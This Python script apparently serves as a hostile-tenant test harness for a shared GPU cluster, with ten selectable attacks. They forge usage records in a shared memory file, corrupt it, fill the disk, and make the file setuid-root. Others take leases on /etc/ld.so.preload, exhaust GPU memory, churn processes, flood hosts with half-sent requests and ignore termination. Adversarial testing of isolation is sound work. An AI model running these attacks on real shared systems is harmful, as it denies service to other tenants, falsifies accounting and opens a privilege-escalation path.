"""What a hostile tenant runs in its containers: one attack by name, until the container is stopped.

It uses nothing but Python's standard library, because the image of the test cluster has nothing else.
"""

import ctypes
import fcntl
import mmap
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

USAGE, LIMITS, ARBITER = (Path("/run/lamina") / name for name in ("usage", "limits", "arbiter"))
SHARES_BYTES = 2048 * 32
SLOT_HEAD, DEVICE_BYTES, COMPUTE = 64, 128, 64
"""Where a slot's first device begins, what each takes, and where its words of compute begin."""
CLAIMED_SLOTS = 200
LOAD = ("gpu-load", "--kernel-ms", "10", "--seconds", "3600")
PROCESSES = 16
CONNECTIONS = 60


def slots(usage: bytes | mmap.mmap) -> Iterator[int]:
    """Where each slot of the file begins."""
    size, count, stride = struct.unpack_from("<QII", usage, 16)
    start = size - SHARES_BYTES - count * stride
    yield from range(start, start + count * stride, stride)


def claim(usage: mmap.mmap, now_ns: int) -> None:
    """Say that every process has worked and waited all the time, and that there are many of them."""
    starts = list(slots(usage))[:CLAIMED_SLOTS]
    (owner,) = struct.unpack_from("<Q", usage, starts[0])
    for number, start in enumerate(starts):
        if number and owner:
            struct.pack_into("<Q", usage, start, owner + number)
        compute = start + SLOT_HEAD + COMPUTE
        (busy_ns,) = struct.unpack_from("<Q", usage, compute + 24)
        struct.pack_into("<QQQQ", usage, compute, now_ns - 10**9, now_ns, now_ns, busy_ns + 50 * 10**6)
    struct.pack_into("<I", usage, 40, len(starts))


def claims() -> None:
    """Work within the limit, and claim far more work than that."""
    with subprocess.Popen(LOAD), USAGE.open("r+b") as file:
        usage = mmap.mmap(file.fileno(), 0)
        while True:
            claim(usage, time.monotonic_ns())
            time.sleep(0.02)


def garbage() -> None:
    """Random bytes all over the file, while programs read and write it."""
    while True:
        with suppress(OSError), USAGE.open("r+b") as file:
            size = os.fstat(file.fileno()).st_size
            file.seek(random.randrange(size))
            file.write(random.randbytes(min(4096, size - file.tell())))
        time.sleep(0.02)


def grow() -> None:
    """A file that fills the disk, and that is a program of root for the users of the node."""
    while True:
        with suppress(OSError), USAGE.open("r+b") as file:
            file.seek(0, os.SEEK_END)
            file.write(bytes(8 << 20))
            os.fchmod(file.fileno(), 0o6777)
            os.fchown(file.fileno(), 0, 0)
        with suppress(OSError):
            os.truncate(USAGE, 100)
        time.sleep(0.1)


def lease() -> None:
    """Leases on every file that the node shares with the container."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    held = []
    while True:
        for path in (USAGE, LIMITS, ARBITER, Path("/etc/ld.so.preload")):
            with suppress(OSError):
                file = os.open(path, os.O_RDONLY)
                held.append(file)
                fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        time.sleep(0.2)
        while held:
            os.close(held.pop())


def crumbs() -> None:
    """Allocations of odd sizes until the driver refuses, again and again."""
    driver, context = ctypes.CDLL("libcuda.so.1"), ctypes.c_void_p()
    driver.cuInit(0)
    driver.cuDevicePrimaryCtxRetain(ctypes.byref(context), 0)
    driver.cuCtxSetCurrent(context)
    while True:
        held = []
        for _ in range(20_000):
            block, size = ctypes.c_uint64(), random.choice((1, 513, 700_000, 3 << 20))
            if driver.cuMemAlloc_v2(ctypes.byref(block), ctypes.c_size_t(size)):
                break
            held.append(block)
        time.sleep(0.5)
        for block in held:
            driver.cuMemFree_v2(block)


def crowd() -> None:
    """Many processes that are killed at any moment of their start."""
    while True:
        started = [subprocess.Popen(LOAD, stdout=subprocess.DEVNULL) for _ in range(PROCESSES)]
        for process in started:
            time.sleep(random.random() * 0.3)
            process.kill()
        for process in started:
            process.wait()


def flood() -> None:
    """Half of a request, very often, at each address that the arguments name as HOST:PORT."""
    addresses = [(host, int(port)) for host, _, port in (word.partition(":") for word in sys.argv[2:])]
    head = b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Length: 6000000\r\n\r\n"
    while True:
        held = []
        for number in range(CONNECTIONS):
            with suppress(OSError):
                connection = socket.create_connection(addresses[number % len(addresses)], timeout=2)
                held.append(connection)
                connection.sendall(random.choice((head, head[:30], random.randbytes(2000), b"\x16\x03\x01\x40\x00")))
        time.sleep(2)
        for connection in held:
            connection.close()


def deaf() -> None:
    """Work on, whatever the node says."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.execvp("sh", ("sh", "-c", f"trap '' TERM; exec {' '.join(LOAD)}"))


def greedy() -> None:
    """As much of the GPU as the driver gives."""
    os.execvp(LOAD[0], LOAD)


def peek() -> None:
    """Ends with 0 if no GPU can be seen, and with 7 if one can."""
    count = ctypes.c_int(0)
    with suppress(OSError):
        driver = ctypes.CDLL("libcuda.so.1")
        if not driver.cuInit(0):
            driver.cuDeviceGetCount(ctypes.byref(count))
    print(f"{count.value} GPUs", flush=True)
    sys.exit(7 if count.value else 0)


ATTACKS: dict[str, Callable[[], None]] = {
    each.__name__: each for each in (claims, garbage, grow, lease, crumbs, crowd, flood, deaf, greedy, peek)
}


def main() -> None:
    """Run the attack that the first argument names."""
    ATTACKS[sys.argv[1]]()


if __name__ == "__main__":
    main()
